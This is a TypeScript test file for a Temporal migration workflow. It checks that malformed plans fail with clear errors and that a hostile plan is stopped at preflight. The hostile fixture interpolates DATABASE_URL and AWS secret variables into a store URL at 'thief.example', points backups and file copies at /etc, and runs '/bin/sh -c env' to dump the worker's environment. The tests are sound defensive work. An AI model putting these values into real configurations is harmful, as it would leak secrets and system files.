import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { Client, Connection, type WorkflowFailedError } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Check } from '../../domain/run/check.ts';
import type { Plan } from '../../domain/plan/plan.ts';
import { TASK_QUEUES, WORKFLOW_TYPES } from '../../workflows/names.ts';
import { withMigrationWorld } from '../support/worlds/migration-world.ts';

const SECRET = 'hunter2-of-the-worker';

/** The variables of the worker hold a secret that no plan may name. */
const world = withMigrationWorld({
  environment: () => ({ DATABASE_URL: SECRET, AWS_SECRET_ACCESS_KEY: SECRET }),
});
let connection: Connection;
let client: Client;
let sound: Plan;

beforeAll(async () => {
  connection = await Connection.connect({ address: world.temporalAddress() });
  client = new Client({ connection });
  sound = JSON.parse((await world.jday('plan', '--day', '1h', '--json')).stdout) as Plan;
});
afterAll(() => connection.close());

type Ended = { readonly type: string; readonly message: string; readonly checks: readonly Check[] };

/** Starts a migration as anybody can who may write to the namespace, and waits for its end. */
async function startWith(plan: unknown, name: string): Promise<Ended & { readonly history: string }> {
  const workflowId = `jday-${name}`;
  const handle = await client.workflow.start(WORKFLOW_TYPES.migration, {
    workflowId,
    taskQueue: TASK_QUEUES.control,
    args: [plan],
  });
  const error: unknown = await handle.result().then(
    () => Promise.reject(new Error('the plan was taken')),
    (failure: unknown) => failure,
  );
  const cause = (error as WorkflowFailedError).cause as unknown as {
    type: string;
    message: string;
    details?: unknown[];
  };
  const history = JSON.stringify(await handle.fetchHistory());
  return { type: cause.type, message: cause.message, checks: (cause.details?.[0] ?? []) as Check[], history };
}

describe('a workflow that anybody has started with any JSON', () => {
  test.each([
    ['none', undefined, 'plan: expected a plan, as `npx jday plan --json` prints it'],
    ['a-text', 'plan', 'plan: expected a plan, as `npx jday plan --json` prints it'],
    ['empty', {}, 'plan.migration: expected a name'],
  ])('ends at once where it is no plan, and says what is missing: %s', async (name, plan, problem) => {
    expect(await startWith(plan, name)).toMatchObject({ type: 'BadConfiguration', message: problem });
  });

  test('ends at once where a field is wrong, and names it', async () => {
    const spoiled = { ...sound, gates: { ...sound.gates, fenceBudgetMs: 'soon' } };
    const { type, message } = await startWith(spoiled, 'spoiled');
    expect(type).toBe('BadConfiguration');
    expect(message).toMatch(
      /^preflight: plan\.gates\.fenceBudgetMs: expected a whole number of ms .*, found "soon"$/,
    );
  });

  test('gets no variable, no file and no program of the worker, and hears so a week before J-Day (L12)', async () => {
    const made = join(world.dir.path, 'made-by-a-plan');
    const hostile: Plan = {
      ...sound,
      stores: sound.stores.map((store, i) => ({
        ...store,
        url:
          ['redis://${DATABASE_URL}.thief.example', '${AWS_SECRET_ACCESS_KEY:-redis://x}', '${TARGET_V2}'][
            i
          ] ?? '',
      })),
      backup: { directory: '/etc', retentionDays: 0 },
      files: [{ name: 'files', from: '/etc', to: made }],
      traffic: [{ kind: 'command', command: ['/bin/sh', '-c', `env > '${made}'`] }],
    };
    const { type, checks, history } = await startWith(hostile, 'hostile');
    expect(type).toBe('PreflightRed');
    const [allowed] = checks.filter(({ name }) => name === 'allowed here');
    for (const field of [
      'stores[0].url names the variable DATABASE_URL',
      'stores[1].url names the variable AWS_SECRET_ACCESS_KEY',
      'traffic[0].command runs a program that this worker does not allow: "/bin/sh"',
      'backup.directory names the folder "/etc"',
      'files[0].from names the folder "/etc"',
      'files[0].to names the folder',
    ])
      expect(allowed?.found).toContain(field);
    expect(history).not.toContain(SECRET);
    expect(existsSync(made)).toBe(false);
  });
});
